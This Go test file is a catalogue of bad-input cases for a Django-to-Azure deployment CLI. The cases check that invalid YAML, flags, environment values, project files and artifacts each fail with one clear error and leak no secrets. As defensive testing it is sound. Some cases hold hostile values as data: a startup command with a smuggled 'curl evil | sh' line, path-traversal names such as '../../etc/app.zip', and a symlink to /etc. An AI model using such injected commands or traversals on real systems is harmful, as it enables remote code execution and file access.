package catalogue

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/djdeploy/djdeploy/internal/e2e"
)

// call is what a case runs.
type call struct {
	args []string          // djdeploy arguments (in-process)
	env  map[string]string // over the emulator's ("-" deletes)
	ci   string            // "github" or "pipelines": run the binary as that CI's step
	// check adds case-specific problems (e.g. a fake service saw a write).
	check func() []string
}

type tcase struct {
	kind, name string
	code       int      // 2 bad input, 1 failure
	want       []string // in the error message (case-insensitive)
	fix        string   // in the fix line, when given
	setup      func(t *testing.T, w *world, dir string) call
}

const yamlFile = "djdeploy.yaml"

// release is the default call: a release of dir with the emulator's
// settings and short waits (no case gets far enough to wait).
func release(dir string, more ...string) call {
	return call{args: append([]string{"release", "--project", dir, "--fix-settings", "--lock-timeout", "5s",
		"--deploy-timeout", "30s", "--warmup-timeout", "5s", "--swap-timeout", "30s"}, more...)}
}

func fileCase(name, yaml string, code int, want []string, fix string) tcase {
	return tcase{"djdeploy.yaml", name, code, want, fix, func(t *testing.T, w *world, dir string) call {
		writeFile(t, filepath.Join(dir, yamlFile), yaml)
		return release(dir)
	}}
}

func flagCase(name string, code int, want []string, fix string, flags ...string) tcase {
	return tcase{"flags", name, code, want, fix, func(t *testing.T, w *world, dir string) call {
		return release(dir, flags...)
	}}
}

func envCase(name string, env map[string]string, code int, want []string, fix string) tcase {
	return tcase{"environment", name, code, want, fix, func(t *testing.T, w *world, dir string) call {
		c := release(dir)
		c.env = env
		return c
	}}
}

func artifactCase(name string, code int, want []string, tamper func(t *testing.T, a, b string)) tcase {
	return tcase{"artifact", name, code, want, "", func(t *testing.T, w *world, dir string) call {
		a, b := w.artifacts(t)
		tamper(t, a, b)
		return release(dir, "--artifact", a)
	}}
}

// ciEnv is what a CI step's process sees: the emulator's settings under
// the CI's names (INPUT_* for the action; the template maps parameters to
// DJDEPLOY_*/AZURE_* with TF_BUILD=True).
func ciEnv(w *world, which, dir string, over map[string]string) map[string]string {
	env := map[string]string{}
	switch which {
	case "github":
		out := filepath.Join(dir, "..", "github_output")
		os.WriteFile(out, nil, 0o644)
		env["GITHUB_ACTIONS"], env["GITHUB_OUTPUT"], env["GITHUB_WORKSPACE"] = "true", out, dir
		for k, v := range w.env {
			if name, ok := settingName(k); ok {
				env["INPUT_"+strings.ToUpper(name)] = v
			} else {
				env[k] = v
			}
		}
		env["INPUT_PROJECT"] = dir
		env["INPUT_FIX-SETTINGS"] = "true"
		env["INPUT_LOCK-TIMEOUT"] = "5s"
	case "pipelines":
		env["TF_BUILD"] = "True"
		for k, v := range w.env {
			env[k] = v
		}
		env["DJDEPLOY_PROJECT"] = dir
		env["DJDEPLOY_FIX_SETTINGS"] = "true"
		env["DJDEPLOY_LOCK_TIMEOUT"] = "5s"
	}
	for k, v := range over {
		if v == "-" {
			delete(env, k)
		} else {
			env[k] = v
		}
	}
	return env
}

// settingName maps DJDEPLOY_STATIC_CONTAINER to static-container (the
// action's input names are the settings' names).
func settingName(env string) (string, bool) {
	if !strings.HasPrefix(env, "DJDEPLOY_") {
		switch env {
		case "AZURE_SUBSCRIPTION_ID":
			return "subscription", true
		case "AZURE_STORAGE_CONNECTION_STRING":
			return "storage-connection-string", true
		}
		return "", false
	}
	return strings.ToLower(strings.ReplaceAll(strings.TrimPrefix(env, "DJDEPLOY_"), "_", "-")), true
}

func ciCase(which, name string, over map[string]string, code int, want []string, setup func(t *testing.T, dir string)) tcase {
	return tcase{which, name, code, want, "", func(t *testing.T, w *world, dir string) call {
		if setup != nil {
			setup(t, dir)
		}
		args := []string{"ci", "github"}
		if which == "pipelines" {
			args = []string{"ci", "azure-pipelines"}
		}
		return call{args: args, ci: which, env: ciEnv(w, which, dir, over)}
	}}
}

var staticDir = filepath.Join("pages", "static", "pages")

func cases() []tcase {
	return []tcase{
		// ---- djdeploy.yaml
		fileCase("unknown key, a typo of app", "apps: demo-app\n", 2, []string{`unknown setting "apps"`}, `"app"`),
		fileCase("unknown key, snake_case", "resource_group: demo-rg\n", 2, []string{`"resource_group"`}, `"resource-group"`),
		fileCase("unknown key, doubled letter", "stattic-container: static\n", 2, []string{`"stattic-container"`}, `"static-container"`),
		fileCase("int setting given a word", "workers: lots\n", 2, []string{"workers", "whole number"}, ""),
		fileCase("bool setting given a word", "no-rollback: perhaps\n", 2, []string{"no-rollback"}, ""),
		fileCase("duration setting given a word", "verify-timeout: soon\n", 2, []string{"verify-timeout"}, ""),
		fileCase("string setting given a list", "app: [a, b]\n", 2, []string{"app", "list"}, ""),
		fileCase("secret in the file: access-token", "access-token: eyJhbGciOi.secret\n", 2, []string{"access-token", "secret"}, "DJDEPLOY_ACCESS_TOKEN"),
		fileCase("secret in the file: storage connection string", "storage-connection-string: AccountName=x;AccountKey=c2VjcmV0\n", 2, []string{"storage-connection-string", "secret"}, ""),
		fileCase("blob endpoint with a SAS in the file", "blob-endpoint: https://acct.blob.core.windows.net/?sv=2022&sig="+testSig+"\n", 2, []string{"blob-endpoint", "SAS"}, "DJDEPLOY_BLOB_ENDPOINT"),
		fileCase("not YAML", "app: [unclosed\n", 2, []string{"djdeploy.yaml"}, ""),
		fileCase("key given twice", "app: a\napp: b\n", 2, []string{"app"}, ""),
		fileCase("a list, not a mapping", "- app\n- demo\n", 2, []string{"djdeploy.yaml"}, ""),
		fileCase("value outside its enum", "pre-swap-where: cloud\n", 2, []string{"pre-swap-where", "cloud"}, ""),
		fileCase("YAML alias to set another key", "app: &a demo-app\nslot: *a\n", 2, []string{"djdeploy.yaml"}, ""),
		fileCase("null value", "static-prefix: null\n", 2, []string{"static-prefix has no value (null)"}, "remove the line"),
		fileCase("two YAML documents", "app: demo-app\n---\nslot: other\n", 2, []string{"more than one YAML document"}, "---"),
		fileCase("a 10 MB value is echoed cut short", "workers: "+strings.Repeat("9", 10<<20)+"\n", 2, []string{"workers", "10485760 bytes long"}, "at most 65536 bytes"),
		fileCase("negative static-grace", "static-grace: -1h\n", 2, []string{"static-grace", "out of range (0s to 8760h)"}, ""),
		{"djdeploy.yaml", "--config names a missing file", 2, []string{"nowhere.yaml"}, "", func(t *testing.T, w *world, dir string) call {
			return release(dir, "--config", filepath.Join(dir, "nowhere.yaml"))
		}},

		// ---- flags
		flagCase("unknown flag", 2, []string{"unknown flag", "--ap"}, "", "--ap", "demo-app"),
		flagCase("int flag given a word", 2, []string{"--workers"}, "", "--workers", "x"),
		flagCase("duration flag given a word", 2, []string{"smoke-max-p95"}, "", "--smoke-max-p95", "fast"),
		flagCase("concurrency 0", 2, []string{"--static-concurrency", "out of range (1 to 256)"}, "", "--static-concurrency", "0"),
		flagCase("concurrency -1", 2, []string{"--static-concurrency", "1 to 256"}, "", "--static-concurrency", "-1"),
		flagCase("concurrency 100000", 2, []string{"--static-concurrency", "1 to 256"}, "", "--static-concurrency", "100000"),
		flagCase("zero deploy-timeout", 2, []string{"--deploy-timeout", "out of range (1s to 24h)"}, "", "--deploy-timeout", "0s"),
		flagCase("negative warmup-timeout", 2, []string{"--warmup-timeout", "1s to 24h"}, "", "--warmup-timeout", "-1m"),
		flagCase("zero verify-timeout", 2, []string{"--verify-timeout", "1s to 24h"}, "", "--verify-timeout", "0"),
		flagCase("zero swap-timeout", 2, []string{"--swap-timeout", "1s to 24h"}, "", "--swap-timeout", "0s"),
		flagCase("negative purge-timeout", 2, []string{"--purge-timeout", "1s to 24h"}, "", "--purge-timeout", "-1s"),
		flagCase("negative lock-timeout", 2, []string{"--lock-timeout", "0s to 24h"}, "", "--lock-timeout", "-1s"),
		flagCase("purge-max-requests 0", 2, []string{"--purge-max-requests", "1 to 100"}, "", "--purge-max-requests", "0"),
		flagCase("workers -1", 2, []string{"--workers", "1 to 128"}, "", "--workers", "-1"),
		flagCase("workers 100000", 2, []string{"--workers", "1 to 128"}, "", "--workers", "100000"),
		flagCase("startup command with a newline", 2, []string{"--startup-command", "line break"}, "one line", "--startup-command", "gunicorn x\ncurl evil | sh"),
		flagCase("--access-token on the command line", 2, []string{"--access-token is a secret"}, "DJDEPLOY_ACCESS_TOKEN", "--access-token", "eyJhbGciOi.argv-token"),
		flagCase("--storage-connection-string on the command line", 2, []string{"--storage-connection-string is a secret"}, "AZURE_STORAGE_CONNECTION_STRING", "--storage-connection-string", "AccountName=x;AccountKey=YXJndg=="),
		flagCase("--blob-endpoint with a SAS on the command line", 2, []string{"--blob-endpoint carries a secret"}, "DJDEPLOY_BLOB_ENDPOINT", "--blob-endpoint", "https://acct.blob.core.windows.net/?sv=2022&sig="+testSig),
		{"flags", "emulator --workers 100000", 2, []string{"--workers 100000 is out of range (1 to 128)"}, "", func(t *testing.T, w *world, dir string) call {
			return call{args: []string{"emulator", "--workers", "100000"}}
		}},
		{"flags", "emulator --storage-connection-string on the command line", 2, []string{"--storage-connection-string is a secret"}, "--storage-connection-string-file", func(t *testing.T, w *world, dir string) call {
			return call{args: []string{"emulator", "--storage-connection-string", "AccountName=x;AccountKey=YXJndg=="}}
		}},
		{"flags", "purge path with a * inside", 2, []string{`"/static/a*b.css"`, "final /*"}, "/static/css/*", func(t *testing.T, w *world, dir string) call {
			return call{args: []string{"purge", "--path", "/static/a*b.css"}, check: func() []string {
				for _, ep := range w.emu.State().CDN {
					if len(ep.Purges) != 0 {
						return []string{"a purge reached the CDN"}
					}
				}
				return nil
			}}
		}},
		flagCase("--skip a step that cannot be skipped", 2, []string{`"deploy"`}, "skip one of", "--skip", "deploy"),
		flagCase("--slot production", 2, []string{"production"}, "staging", "--slot", "production"),
		flagCase("slot name escaping its path", 2, []string{"invalid slot name"}, "", "--slot", "st/../x"),
		flagCase("app name with forbidden characters", 2, []string{"invalid app name"}, "", "--app", "my_app!"),
		flagCase("resource group escaping its path", 2, []string{"invalid resource group name"}, "", "--resource-group", "rg/../../x"),
		{"flags", "a positional argument", 2, []string{"unknown command"}, "", func(t *testing.T, w *world, dir string) call {
			c := release(dir)
			c.args = append(c.args, "now")
			return c
		}},
		{"flags", "--project that does not exist", 2, []string{"does-not-exist"}, "", func(t *testing.T, w *world, dir string) call {
			return release(filepath.Join(dir, "does-not-exist"))
		}},
		{"flags", "--project that is not a Django project", 2, []string{"manage.py"}, "", func(t *testing.T, w *world, dir string) call {
			empty := filepath.Join(dir, "..", "empty")
			os.MkdirAll(empty, 0o755)
			return release(empty)
		}},
		flagCase("--artifact that does not exist", 2, []string{"release.json"}, "", "--artifact", "/nonexistent/build"),

		// ---- environment
		envCase("required settings missing", map[string]string{"DJDEPLOY_APP": "-", "DJDEPLOY_RESOURCE_GROUP": "-"}, 2, []string{"missing", "app", "resource-group"}, ""),
		envCase("a 10 MB app name", map[string]string{"DJDEPLOY_APP": strings.Repeat("a", 10<<20)}, 2, []string{"DJDEPLOY_APP", "10485760 bytes"}, "at most 65536 bytes"),
		envCase("a 10 MB health status list", map[string]string{"DJDEPLOY_HEALTH_STATUSES": strings.Repeat("2", 10<<20)}, 2, []string{"DJDEPLOY_HEALTH_STATUSES", "10485760 bytes"}, ""),
		envCase("bool variable given a word", map[string]string{"DJDEPLOY_NO_ROLLBACK": "maybe"}, 2, []string{"DJDEPLOY_NO_ROLLBACK"}, "true or false"),
		envCase("credential kind that does not exist", map[string]string{"DJDEPLOY_CREDENTIAL": "kerberos"}, 2, []string{"kerberos"}, "access-token"),
		envCase("plain http to a non-loopback ARM", map[string]string{"DJDEPLOY_ARM_ENDPOINT": "http://management.example.com"}, 2, []string{"plain http"}, "https"),
		envCase("plain http to a non-loopback Blob endpoint", map[string]string{"AZURE_STORAGE_CONNECTION_STRING": "-", "DJDEPLOY_BLOB_ENDPOINT": "http://storage.example.com/?sv=2022&se=2031-01-01&sig=" + testSig}, 2, []string{"http", "sig=REDACTED"}, ""),
		envCase("ca-file that does not exist", map[string]string{"DJDEPLOY_CA_FILE": "/nonexistent/ca.pem"}, 2, []string{"ca-file"}, ""),
		{"environment", "ca-file that holds no certificate", 2, []string{"ca-file", "PEM"}, "", func(t *testing.T, w *world, dir string) call {
			p := filepath.Join(dir, "..", "not-a-ca.pem")
			writeFile(t, p, "hello\n")
			c := release(dir)
			c.env = map[string]string{"DJDEPLOY_CA_FILE": p}
			return c
		}},
		envCase("container name Azure refuses", map[string]string{"DJDEPLOY_STATIC_CONTAINER": "Bad_Container"}, 2, []string{"container name"}, ""),
		envCase("static prefix escaping the container", map[string]string{"DJDEPLOY_STATIC_PREFIX": "../up"}, 2, []string{"prefix"}, ""),
		envCase("storage connection string that is not one", map[string]string{"AZURE_STORAGE_CONNECTION_STRING": "garbage"}, 2, []string{"connection string"}, ""),
		envCase("health statuses that are not statuses", map[string]string{"DJDEPLOY_HEALTH_STATUSES": "abc"}, 2, []string{"health-statuses"}, ""),

		// ---- the project
		{"project", "symlink out of the project", 2, []string{"symlink"}, "", func(t *testing.T, w *world, dir string) call {
			if err := os.Symlink("/etc", filepath.Join(dir, staticDir, "etc")); err != nil {
				t.Fatal(err)
			}
			return release(dir)
		}},
		{"project", "symlink loop", 2, []string{"symlink"}, "", func(t *testing.T, w *world, dir string) call {
			d := filepath.Join(dir, staticDir)
			os.Symlink("b", filepath.Join(d, "a"))
			os.Symlink("a", filepath.Join(d, "b"))
			return release(dir)
		}},
		{"project", "non-UTF-8 static file name", 2, []string{"not valid UTF-8"}, "", func(t *testing.T, w *world, dir string) call {
			writeFile(t, filepath.Join(dir, staticDir, "caf\xe9.css"), "body{}\n")
			return release(dir)
		}},
		{"project", ".djdeployignore of * leaves the app out", 2, []string{"would not hold manage.py"}, ".djdeployignore", func(t *testing.T, w *world, dir string) call {
			writeFile(t, filepath.Join(dir, ".djdeployignore"), "*\n")
			return release(dir)
		}},
		{"project", ".djdeployignore of the settings package", 2, []string{"would not hold the settings module"}, "", func(t *testing.T, w *world, dir string) call {
			writeFile(t, filepath.Join(dir, ".djdeployignore"), "mysite/\n")
			return release(dir)
		}},
		{"project", "backslash in a file name", 2, []string{"backslash", "evil.py"}, "", func(t *testing.T, w *world, dir string) call {
			writeFile(t, filepath.Join(dir, "pages", `..\..\evil.py`), "print(1)\n")
			return release(dir)
		}},
		{"project", "excluded symlink out of the project in a static folder", 2, []string{"leads outside the project"}, "", func(t *testing.T, w *world, dir string) call {
			if err := os.Symlink("/etc", filepath.Join(dir, staticDir, "etc")); err != nil {
				t.Fatal(err)
			}
			writeFile(t, filepath.Join(dir, ".djdeployignore"), "etc\n")
			return release(dir)
		}},
		{"project", "static file name ending with a dot", 2, []string{"ending with a dot"}, "rename", func(t *testing.T, w *world, dir string) call {
			writeFile(t, filepath.Join(dir, staticDir, "site.css."), "body{}\n")
			return release(dir)
		}},
		{"project", "non-UTF-8 .djdeployignore", 2, []string{".djdeployignore"}, "", func(t *testing.T, w *world, dir string) call {
			writeFile(t, filepath.Join(dir, ".djdeployignore"), "caf\xe9/\n")
			return release(dir)
		}},

		// ---- a prebuilt artifact (release.json)
		artifactCase("release.json is not JSON", 2, []string{"release.json", "not valid JSON"}, func(t *testing.T, a, _ string) {
			writeFile(t, filepath.Join(a, "release.json"), "{\"schema\": 1,")
		}),
		artifactCase("release.json of another schema", 2, []string{"schema"}, func(t *testing.T, a, _ string) {
			editJSON(t, filepath.Join(a, "release.json"), func(m map[string]any) { m["schema"] = 99 })
		}),
		artifactCase("release.json lists a static file ../x", 2, []string{"static"}, func(t *testing.T, a, _ string) {
			editJSON(t, filepath.Join(a, "release.json"), func(m map[string]any) {
				st := m["static"].([]any)
				st[0].(map[string]any)["path"] = "../../outside.css"
			})
		}),
		artifactCase("release.json points app_zip outside the artifact", 2, []string{"app_zip"}, func(t *testing.T, a, _ string) {
			editJSON(t, filepath.Join(a, "release.json"), func(m map[string]any) {
				m["app_zip"].(map[string]any)["path"] = "../../etc/app.zip"
			})
		}),
		artifactCase("release.json from another build of the project", 2, []string{"app.zip"}, func(t *testing.T, a, b string) {
			data, err := os.ReadFile(filepath.Join(b, "release.json"))
			if err != nil {
				t.Fatal(err)
			}
			writeFile(t, filepath.Join(a, "release.json"), string(data))
		}),
		artifactCase("app.zip changed after the build (same size)", 2, []string{"app.zip"}, func(t *testing.T, a, _ string) {
			p := filepath.Join(a, "app.zip")
			data, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			data[len(data)/2] ^= 0xff
			os.WriteFile(p, data, 0o644)
		}),

		// ---- malformed answers from a service
		{"service", "ARM answers truncated JSON", 1, []string{"demo-app", "unexpected end of JSON"}, "", func(t *testing.T, w *world, dir string) call {
			f := newFakeARM(t, "application/json", `{"id": "/subscriptions/x", "properties": {`)
			return call{args: []string{"swap", "--swap-timeout", "20s", "--warmup-timeout", "5s"},
				env: map[string]string{"DJDEPLOY_ARM_ENDPOINT": f.srv.URL}, check: f.noWrites}
		}},
		{"service", "ARM answers an HTML page", 1, []string{"reading CDN profile", "invalid character '<'"}, "", func(t *testing.T, w *world, dir string) call {
			f := newFakeARM(t, "text/html", "<html><body>Sign in to continue</body></html>")
			return call{args: []string{"release", "--project", dir, "--plan"},
				env: map[string]string{"DJDEPLOY_ARM_ENDPOINT": f.srv.URL}, check: f.noWrites}
		}},

		// ---- the GitHub Action's inputs (djdeploy ci github, a process)
		ciCase("github", "required input missing", map[string]string{"INPUT_APP": "-"}, 2, []string{"app"}, nil),
		ciCase("github", "int input given a word", map[string]string{"INPUT_WORKERS": "abc"}, 2, []string{"workers"}, nil),
		ciCase("github", "slot input naming production", map[string]string{"INPUT_SLOT": "production"}, 2, []string{"production"}, nil),
		ciCase("github", "blob endpoint with a SAS over plain http", map[string]string{"AZURE_STORAGE_CONNECTION_STRING": "-", "INPUT_STORAGE-CONNECTION-STRING": "-", "INPUT_BLOB-ENDPOINT": "http://storage.example.com/?sv=2022&sig=" + testSig}, 2, []string{"blob-endpoint", "plain http"}, nil),
		ciCase("github", "outside GitHub Actions", map[string]string{"GITHUB_ACTIONS": "-"}, 2, []string{"GITHUB_ACTIONS"}, nil),
		ciCase("github", "unknown key in the project's djdeploy.yaml", nil, 2, []string{"apps"}, func(t *testing.T, dir string) {
			writeFile(t, filepath.Join(dir, yamlFile), "apps: demo-app\n")
		}),

		// ---- Azure Pipelines parameters (djdeploy ci azure-pipelines)
		ciCase("pipelines", "slot parameter naming production", map[string]string{"DJDEPLOY_SLOT": "production"}, 2, []string{"production"}, nil),
		ciCase("pipelines", "bool parameter given a word", map[string]string{"DJDEPLOY_NO_ROLLBACK": "perhaps"}, 2, []string{"DJDEPLOY_NO_ROLLBACK"}, nil),
		ciCase("pipelines", "credential parameter of no kind", map[string]string{"DJDEPLOY_CREDENTIAL": "password"}, 2, []string{"password"}, nil),
		ciCase("pipelines", "outside Azure Pipelines", map[string]string{"TF_BUILD": "-"}, 2, []string{"TF_BUILD"}, nil),
	}
}

func (f *fakeARM) noWrites() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.writes) > 0 {
		return []string{"the fake ARM received writes: " + strings.Join(f.writes, ", ")}
	}
	if f.answers == 0 {
		return []string{"the fake ARM was never asked: the case does not test a malformed answer"}
	}
	return nil
}

// testSig is a SAS signature the cases give; neverPrinted lists it and the
// other secrets the cases pass, which no output may contain (apart from
// the CI's own mask commands, which must).
const testSig = "c2lnLWZyb20tdGhlLWNhdGFsb2d1ZQ%3D%3D"

var neverPrinted = []string{testSig, "c2lnLWZyb20tdGhlLWNhdGFsb2d1ZQ==", "argv-token", "YXJndg=="}

var internals = regexp.MustCompile(`goroutine \d|panic:|\.go:\d+|runtime\.|\[recovered\]`)

func TestBadInputCatalogue(t *testing.T) {
	w := newWorld(t)
	all := cases()
	if len(all) < 40 {
		t.Fatalf("the catalogue has %d cases; the issue asks for at least 40", len(all))
	}
	counts := map[string]int{}
	for _, tc := range all {
		counts[tc.kind]++
		t.Run(tc.kind+"/"+tc.name, func(t *testing.T) {
			dir := e2e.Project(t, "django-app")
			c := tc.setup(t, w, dir)
			before := w.remote(t)
			var r result
			if c.ci != "" {
				r = w.runProcess(t, dir, c.env, c.args...)
			} else {
				r = w.run(t, c.env, c.args...)
			}
			for _, p := range problems(tc, c, r) {
				t.Errorf("%s\n%s", p, r)
			}
			if c.check != nil {
				for _, p := range c.check() {
					t.Error(p)
				}
			}
			if after := w.remote(t); after != before {
				t.Errorf("something remote changed:\nbefore: %s\nafter:  %s", before, after)
			}
		})
	}
	t.Logf("bad-input catalogue: %d cases %v", len(all), counts)
}

// problems checks one result: exit code, exactly one error (with an
// optional fix), the expected words, no Go internals.
func problems(tc tcase, c call, r result) []string {
	var p []string
	if r.code != tc.code {
		p = append(p, "exit code is not the expected one")
	}
	all := r.stdout + r.stderr
	for _, l := range strings.Split(all, "\n") {
		if strings.HasPrefix(l, "::add-mask::") || strings.HasPrefix(l, "##vso[task.setsecret]") {
			continue
		}
		for _, sec := range neverPrinted {
			if strings.Contains(l, sec) {
				p = append(p, "output shows a secret the case passed: "+sec)
			}
		}
	}
	if internals.MatchString(all) {
		p = append(p, "output shows Go internals: "+internals.FindString(all))
	}
	var errLine, fixLine string
	switch c.ci {
	case "github":
		var errs []string
		for _, l := range strings.Split(r.stdout, "\n") {
			if strings.HasPrefix(l, "::error") {
				errs = append(errs, l)
			}
		}
		if len(errs) != 1 {
			return append(p, "want exactly one ::error command on stdout")
		}
		errLine = errs[0]
		if i := strings.Index(errLine, "%0Afix: "); i >= 0 {
			errLine, fixLine = errLine[:i], errLine[i:]
		}
	case "pipelines":
		var errs []string
		for _, l := range strings.Split(r.stdout, "\n") {
			if strings.HasPrefix(l, "##vso[task.logissue type=error") {
				errs = append(errs, l)
			}
		}
		if len(errs) != 1 {
			return append(p, "want exactly one ##vso[task.logissue type=error] on stdout")
		}
		errLine = errs[0]
		if i := strings.Index(errLine, "%0Afix: "); i >= 0 {
			errLine, fixLine = errLine[:i], errLine[i:]
		}
	default:
		lines := strings.Split(strings.TrimRight(r.stderr, "\n"), "\n")
		n := 0
		for i, l := range lines {
			if strings.HasPrefix(l, "error: ") {
				n++
				errLine = l
				if i+1 < len(lines) && strings.HasPrefix(lines[i+1], "  fix: ") {
					fixLine = lines[i+1]
				}
			}
		}
		if n != 1 {
			return append(p, "want exactly one error: line on stderr")
		}
		if strings.Contains(errLine, "\n") || len(errLine) > 600 {
			p = append(p, "the error is not one readable line")
		}
	}
	for _, wnt := range tc.want {
		if !strings.Contains(strings.ToLower(errLine), strings.ToLower(wnt)) {
			p = append(p, "the error does not say "+wnt)
		}
	}
	if tc.fix != "" && !strings.Contains(fixLine, tc.fix) {
		p = append(p, "the fix does not say "+tc.fix)
	}
	return p
}
